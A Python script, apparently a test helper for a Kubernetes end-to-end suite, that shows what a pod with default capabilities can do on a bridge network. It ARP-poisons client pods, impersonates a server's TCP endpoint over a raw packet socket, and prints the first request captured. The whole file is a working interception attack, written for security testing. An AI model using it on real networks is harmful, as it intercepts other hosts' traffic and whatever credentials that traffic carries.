#!/usr/bin/env python3
# Poses as another pod's TCP server, for the end-to-end suite's attacker pod
# (test/e2e/node-install.test.ts): what a pod's root with the container runtime's default capabilities
# (CAP_NET_RAW, no CAP_NET_ADMIN) can do on a bridge CNI. It tells the clients' pods, by ARP, that the
# server's address is at the attacker's MAC, answers their SYN itself over an AF_PACKET socket and
# prints the first request that comes (new connection or a kept-alive one).
#
#   impersonated-server.py IFACE SERVER_IP SERVER_PORT SECONDS CLIENT_IP=CLIENT_MAC...
#
# Prints JSON: {"request": the request's text up to its blank line, or null after SECONDS}.
import json
import random
import socket
import struct
import sys
import time

iface, server_ip, server_port, seconds = sys.argv[1:5]
clients = [c.split("=", 1) for c in sys.argv[5:]]
server_port = int(server_port)
my_mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
server = socket.inet_aton(server_ip)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
s.bind((iface, 0))
s.settimeout(0.2)


def arp_poison():
    # a request for each client's own address, from the server's address at our MAC
    for ip, mac in clients:
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + my_mac + server
        body += b"\x00" * 6 + socket.inet_aton(ip)
        s.send(bytes.fromhex(mac.replace(":", "")) + my_mac + b"\x08\x06" + body)


def csum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send_tcp(dst_mac, dst, dport, seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", server_port, dport, seq, ack, 5 << 4, flags, 65000, 0, 0)
    pseudo = server + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randint(0, 65535), 0x4000, 64, 6, 0, server, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    s.send(dst_mac + my_mac + b"\x08\x00" + ip + tcp)


flows = {}  # (client ip, port) -> [our next seq, bytes received]
result = None
deadline = time.time() + float(seconds)
last_arp = 0.0
while time.time() < deadline and result is None:
    if time.time() - last_arp > 0.3:
        arp_poison()
        last_arp = time.time()
    try:
        frame = s.recv(65535)
    except socket.timeout:
        continue
    if frame[12:14] != b"\x08\x00" or frame[0:6] != my_mac:
        continue
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != 6 or ip[16:20] != server:
        continue
    total = struct.unpack("!H", ip[2:4])[0]
    tcp = ip[ihl:total]
    sp, dp, sq, ak, off, fl = struct.unpack("!HHIIBB", tcp[:14])
    if dp != server_port:
        continue
    payload = tcp[(off >> 4) * 4 :]
    key = (ip[12:16], sp)
    if fl & 0x02:  # SYN: answer as the server
        isn = random.randint(0, 2**31)
        flows[key] = [isn + 1, b""]
        send_tcp(frame[6:12], ip[12:16], sp, isn, sq + 1, 0x12)
        continue
    if payload:
        flow = flows.setdefault(key, [ak, b""])
        flow[1] += payload
        send_tcp(frame[6:12], ip[12:16], sp, flow[0], sq + len(payload), 0x10)
        if b"\r\n\r\n" in flow[1]:
            result = flow[1].split(b"\r\n\r\n", 1)[0].decode(errors="replace")
            send_tcp(frame[6:12], ip[12:16], sp, flow[0], sq + len(payload), 0x04)
print(json.dumps({"request": result}))
